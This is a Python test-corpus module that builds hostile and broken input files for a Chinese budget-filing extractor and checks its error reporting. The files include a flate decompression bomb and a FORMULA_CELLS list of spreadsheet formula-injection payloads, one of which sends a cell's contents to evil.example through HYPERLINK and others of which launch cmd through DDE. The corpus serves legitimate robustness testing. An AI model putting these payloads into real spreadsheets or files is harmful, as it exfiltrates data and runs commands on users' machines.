"""The bad-input corpus: every hostile or broken input jixiao must survive, with what it must say.

:data:`CASES` is the one table: per case its kind, the file name, how to build
its bytes, the manifest status it must end with and the code one of its
manifest errors or warnings must carry (every message names the file, always). Files are built on the
fly (nothing big is committed): ``build(folder)`` writes them all.

Used by ``tests/test_bad_inputs.py`` (one batch of them all, plus a good
filing) and ``benchmarks/bench_robust.py`` (how many are handled as expected).
Issue 23's probe (hostile files that must stay within time and memory budgets,
at the probe's own size or a small one, and the scenarios that are no file) is
the second table of the corpus: ``tests/hostile_inputs.py``.
Cases already covered in depth elsewhere are referenced rather than repeated:
the joiner's no-shift guarantee for unequal row counts (tests/test_errors.py),
encrypted PDFs' cell-for-cell agreement (tests/test_pdf.py), timeouts and OOM
of the local engine (tests/test_batch.py, tests/test_engines.py).
"""

from __future__ import annotations

import codecs
import contextlib
import os
import random
import zlib
from dataclasses import dataclass
from pathlib import Path
from typing import Callable, Optional

from helpers import SAMPLES, SEED
from jixiao.model import ErrorCode
from pdf_factory import raw_pdf, serialize_pdf

GENERATED = SAMPLES / "generated"
FUZZ_REGRESSIONS = Path(__file__).parent / "fuzz_regressions"
GOOD_PDF = GENERATED / "changde-shengtai-2023.pdf"
HELVETICA = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"


def seed_lines() -> list[str]:
    return SEED.read_text(encoding="utf-8").splitlines()


def seed_text() -> str:
    return SEED.read_text(encoding="utf-8")


def fragment_spans(lines: list[str]) -> list[tuple[int, int]]:
    """(first, end) line numbers (0-based) of the seed's three fragments, header block included."""
    # each fragment's header block opens with the "部门（单位）职…年度履职目标" title line
    starts = [i for i, line in enumerate(lines) if line.endswith("年度履职目标")]
    return [(a, b) for a, b in zip(starts, starts[1:] + [len(lines)])]


def _join(lines: list[str]) -> bytes:
    return ("\n".join(lines) + "\n").encode("utf-8")


# ---------------------------------------------------------------- text cases

def only_fragments(*keep: int) -> Callable[[], bytes]:
    def make() -> bytes:
        lines = seed_lines()
        spans = fragment_spans(lines)
        return _join([line for k in keep for line in lines[spans[k][0]:spans[k][1]]])
    return make


def unequal_rows() -> bytes:
    # the same edit as tests/test_errors.py: drop the explanations fragment's last row
    lines = seed_lines()
    third = max(i for i, line in enumerate(lines) if line.strip() == "年度履职目标")
    del lines[third - 1]
    return _join(lines)


def duplicated_fragment() -> bytes:
    lines = seed_lines()
    spans = fragment_spans(lines)
    first, end = spans[1]
    return _join(lines[:end] + lines[first:end] + lines[end:])


def many_warnings(copies: int = 40) -> bytes:
    """The explanations fragment again and again: each copy is a warning ("… is ignored")."""
    lines = seed_lines()
    spans = fragment_spans(lines)
    first, end = spans[1]
    return _join(lines[:end] + lines[first:end] * copies + lines[end:])


def two_departments() -> bytes:
    lines = seed_lines()
    spans = fragment_spans(lines)
    first, end = spans[2]
    lines[first:end] = [line.replace("衡阳市应急管理局", "衡阳市财政局") for line in lines[first:end]]
    return _join(lines)


def mojibake() -> bytes:
    """The first fragment saved as GB18030, the rest as UTF-8: two tools appended to one file."""
    lines = seed_lines()
    end = fragment_spans(lines)[0][1]
    return ("\n".join(lines[:end]) + "\n").encode("gb18030") + _join(lines[end:])


def long_cells() -> bytes:
    lines = seed_lines()
    spans = fragment_spans(lines)
    row = spans[1][0] + 8  # an explanation row
    lines[row] = lines[row] + "应急管理能力建设" * 25_000  # 200,000 characters in one cell
    return _join(lines)


def nul_bytes() -> bytes:
    data = SEED.read_bytes()
    rng = random.Random(8)
    cut = sorted(rng.sample(range(len(data)), 40))
    # NULs only between lines, so no UTF-8 sequence is split
    out, last = bytearray(), 0
    for position in cut:
        position = data.index(b"\n", position) if b"\n" in data[position:] else len(data)
        out += data[last:position] + b"\x00"
        last = position
    return bytes(out + data[last:])


def bidi_marks() -> bytes:
    lines = seed_lines()
    spans = fragment_spans(lines)
    header = next(i for i in range(*spans[1]) if lines[i].startswith("指标解释"))
    lines[header] = "\u200f" + lines[header]  # a right-to-left mark before a column header
    lines[header + 2] = "\u202e" + lines[header + 2] + "\u202c"  # a right-to-left override around a cell
    return _join(lines)


FORMULA_CELLS = ('=HYPERLINK("http://evil.example/?"&A1,"点击")', "+cmd|' /C calc'!A0",
                 "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0")


def formula_cells() -> bytes:
    """Explanations that a spreadsheet would run as formulas, one of each trigger."""
    lines = seed_lines()
    spans = fragment_spans(lines)
    first = next(i for i in range(*spans[1]) if lines[i].startswith("指标解释")) + 1
    for k, payload in enumerate(FORMULA_CELLS):
        lines[first + k] = payload
    return _join(lines)


def binary_garbage() -> bytes:
    return random.Random(1).randbytes(64 * 1024)


# ---------------------------------------------------------------- PDF cases

def truncated_pdf() -> bytes:
    data = GOOD_PDF.read_bytes()
    return data[: len(data) * 2 // 3]


@contextlib.contextmanager
def _encrypting(user_password: str):
    """Make the sample renderer's reportlab canvas encrypt what it draws."""
    from reportlab.lib import pdfencrypt

    import samplegen.render_pdf as render

    plain = render.canvas.Canvas
    render.canvas.Canvas = lambda *a, **k: plain(
        *a, encrypt=pdfencrypt.StandardEncryption(user_password, ownerPassword="owner"), **k)
    try:
        yield render
    finally:
        render.canvas.Canvas = plain


def encrypted_pdf(user_password: str) -> Callable[[], bytes]:
    def make() -> bytes:
        import json
        import tempfile

        truth = json.loads((GENERATED / f"{GOOD_PDF.stem}.truth.json").read_text(encoding="utf-8"))
        with tempfile.TemporaryDirectory() as folder, _encrypting(user_password) as render:
            render.render_pdf(truth, truth["garble"], Path(folder) / "x.pdf", truth["garbled"])
            return (Path(folder) / "x.pdf").read_bytes()
    return make


def many_pages(pages: int = 500) -> Callable[[], bytes]:
    def make() -> bytes:
        return raw_pdf([b"BT /F1 12 Tf 40 500 Td (Budget appendix page %d: nothing to see) Tj ET" % n
                        for n in range(1, pages + 1)], HELVETICA)
    return make


def tiny_text_objects(count: int = 20_000) -> bytes:
    rng = random.Random(20)
    stream = b"".join(b"BT /F1 1 Tf %d %d Td (x) Tj ET\n" % (rng.randrange(800), rng.randrange(560))
                      for _ in range(count))
    return raw_pdf([stream], HELVETICA)


def flate_bomb(inflated: int = 400 << 20) -> bytes:
    """A content stream of ~400 KB that inflates to 400 MB of spaces (a zip bomb's little cousin)."""
    compressor = zlib.compressobj(9)
    chunk = b" " * (1 << 20)
    body = b"".join(compressor.compress(chunk) for _ in range(inflated >> 20)) + compressor.flush()
    objects = [b"<< /Type /Catalog /Pages 2 0 R >>",
               b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
               b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 842 595] "
               b"/Resources << /Font << /F1 5 0 R >> >> /Contents 4 0 R >>",
               b"<< /Length %d /Filter /FlateDecode >>\nstream\n" % len(body) + body + b"\nendstream",
               HELVETICA]
    return serialize_pdf(objects)


# ---------------------------------------------------------------- the table

@dataclass(frozen=True)
class Case:
    kind: str  # the category, for the numbers in bench_robust
    name: str  # file name in the corpus folder
    make: Callable[[], bytes]
    status: str  # ok / partial / failed
    code: Optional[ErrorCode]  # the code of one of the manifest's errors or warnings; None: none expected
    records: Optional[int] = None  # how many records, when it matters
    place: Optional[Callable[[Path], None]] = None  # makes the entry itself (a link, a FIFO) instead of make


CASES: tuple[Case, ...] = (
    Case("empty", "empty.txt", lambda: b"", "failed", ErrorCode.EMPTY_FILE),
    Case("empty", "empty.pdf", lambda: b"", "failed", ErrorCode.EMPTY_FILE),
    Case("garbage", "garbage.pdf", binary_garbage, "failed", ErrorCode.CORRUPT_FILE),
    Case("garbage", "garbage.txt", binary_garbage, "failed", ErrorCode.UNDECODABLE_TEXT),
    Case("truncated", "truncated.pdf", truncated_pdf, "failed", ErrorCode.TRUNCATED_FILE),
    Case("encrypted", "encrypted-password.pdf", encrypted_pdf("secret"), "failed",
         ErrorCode.ENCRYPTED),
    Case("encrypted", "encrypted-empty-password.pdf", encrypted_pdf(""), "ok", None, 16),  # as the plain PDF
    Case("huge", "500-pages.pdf", many_pages(500), "failed", ErrorCode.NO_TABLE),
    Case("huge", "20000-text-objects.pdf", tiny_text_objects, "failed", ErrorCode.NO_TABLE),
    Case("bomb", "flate-bomb.pdf", flate_bomb, "failed", ErrorCode.DECOMPRESSION_BOMB),
    Case("encoding", "utf-16.txt", lambda: codecs.BOM_UTF16_LE + seed_text().encode("utf-16-le"), "ok", None, 14),
    Case("encoding", "utf-16-no-bom.txt", lambda: seed_text().encode("utf-16-be"), "ok", None, 14),
    Case("encoding", "gb18030.txt", lambda: seed_text().encode("gb18030"), "ok", None, 14),
    Case("encoding", "mojibake.txt", mojibake, "ok", ErrorCode.MIXED_ENCODINGS, 14),
    Case("fragments", "only-indicators.txt", only_fragments(0), "partial",
         ErrorCode.FRAGMENT_MISSING, 14),
    Case("fragments", "no-scoring.txt", only_fragments(0, 1), "partial",
         ErrorCode.FRAGMENT_MISSING, 14),
    Case("fragments", "no-indicators.txt", only_fragments(1, 2), "failed", ErrorCode.NO_INDICATOR_ROWS),
    Case("fragments", "unequal-rows.txt", unequal_rows, "partial", ErrorCode.ROW_COUNTS_DIFFER, 14),
    Case("fragments", "duplicated-fragment.txt", duplicated_fragment, "ok", ErrorCode.DUPLICATE_FRAGMENT, 14),
    Case("warnings", "many-warnings.txt", many_warnings, "ok", ErrorCode.WARNINGS_CAPPED, 14),
    Case("fragments", "two-departments.txt", two_departments, "partial", ErrorCode.DEPARTMENTS_DIFFER,
         14),
    Case("cells", "long-cell.txt", long_cells, "ok", None, 14),
    Case("cells", "nul-bytes.txt", nul_bytes, "ok", ErrorCode.CONTROLS_REMOVED, 14),
    Case("cells", "bidi-marks.txt", bidi_marks, "ok", ErrorCode.CONTROLS_REMOVED, 14),
    Case("cells", "formula-cells.txt", formula_cells, "ok", None, 14),
    # found by fuzz/fuzz_extract.py: a stream pdfium skips but pdfminer raises on (was "extractor crashed")
    Case("fuzz", "fuzz-ascii85.pdf", lambda: (FUZZ_REGRESSIONS / "pdf-ascii85.pdf").read_bytes(), "partial",
         ErrorCode.PAGE_SKIPPED),
    # found by fuzz/fuzz_extract.py: a page /Rotate that is not a number; pdfplumber raised while closing
    # and pdfminer could not parse the pages; pypdfium2 reads them (the seed layout no longer needs pdfminer)
    Case("fuzz", "fuzz-rotate-keyword.pdf", lambda: (FUZZ_REGRESSIONS / "pdf-rotate-keyword.pdf").read_bytes(),
         "ok", None, 17),
    # found by fuzz/fuzz_extract.py: pdfium cannot load a page object (was "extractor crashed")
    Case("fuzz", "fuzz-broken-page.pdf", lambda: (FUZZ_REGRESSIONS / "pdf-broken-page.pdf").read_bytes(),
         "failed", ErrorCode.PAGES_UNREADABLE),
)


# ---------------------------------------------------------------- entries found by walking a folder
# (issue 14, items 1 and 7): given to convert as one folder, each must still get its own manifest line

WALKED = "walked"
"""The sub-folder of the corpus holding :data:`FOLDER_CASES`; the batch is given the folder, not the entries."""


def _symlink(target: str) -> Callable[[Path], None]:
    return lambda path: path.symlink_to(target)


def _fifo(path: Path) -> None:
    os.mkfifo(path)


def _locked_folder(path: Path) -> None:
    path.mkdir()
    (path / "inside.txt").write_bytes(seed_text().encode("utf-8"))
    path.chmod(0)


def running_as_root() -> bool:
    return hasattr(os, "geteuid") and os.geteuid() == 0


FOLDER_CASES: tuple[Case, ...] = (
    # a file name that is not UTF-8 is data: an escaped source, and the batch goes on
    Case("names", os.fsdecode(b"bad\xff\xfe.txt"), lambda: seed_text().encode("utf-8"), "ok", None, 14),
    Case("names", "new\nline.txt", lambda: seed_text().encode("utf-8"), "ok", None, 14),
    Case("folders", "loop", None, "failed", ErrorCode.LINK_LOOP, place=_symlink(".")),
    Case("folders", "self-loop.txt", None, "failed", ErrorCode.LINK_LOOP, place=_symlink("self-loop.txt")),
    Case("folders", "dangling.pdf", None, "failed", ErrorCode.DANGLING_LINK, place=_symlink("nowhere.pdf")),
    Case("folders", "fifo.txt", None, "failed", ErrorCode.NOT_A_REGULAR_FILE, place=_fifo),
    *(() if running_as_root() else (  # root reads a mode-0 folder (tests/test_hardening.py fakes it instead)
        Case("folders", "locked", None, "failed", ErrorCode.UNREADABLE_ENTRY, place=_locked_folder),)),
)


def build(folder: Path, cases=CASES) -> dict[str, Path]:
    """Write every case's file into ``folder``; name → path."""
    folder.mkdir(parents=True, exist_ok=True)
    paths = {}
    for case in cases:
        path = folder / case.name
        if case.place is not None:
            case.place(path)
        else:
            path.write_bytes(case.make())
        paths[case.name] = path
    return paths


def build_walked(folder: Path) -> dict[str, Path]:
    """:data:`FOLDER_CASES` in ``folder/walked``; give convert that folder. Name → path."""
    return build(folder / WALKED, FOLDER_CASES)


def manifest_key(path: Path) -> str:
    """The ``source`` a manifest line has for ``path`` (file names that are not UTF-8 are escaped)."""
    from jixiao.pipeline.inputs import display_name

    return display_name(str(path))


def check(case: Case, entry: dict) -> Optional[str]:
    """None when the manifest entry is what the case expects, else what differs."""
    problems = []
    if entry["status"] != case.status:
        problems.append(f"status {entry['status']} (expected {case.status})")
    codes = [e["code"] for e in entry.get("errors", [])]
    if case.code is not None and case.code.value not in codes:
        problems.append(f"no error coded {case.code.value} in {codes}")
    messages = [entry.get("error") or ""] + [e["message"] for e in entry.get("errors", [])]
    # every message names its file (issue 14): a clerk reading it alone knows which one
    if any(m and entry["source"] not in m for m in messages):
        problems.append(f"a message does not name the file: {messages}")
    if case.records is not None and entry["records"] != case.records:
        problems.append(f"{entry['records']} records (expected {case.records})")
    return "; ".join(problems) or None
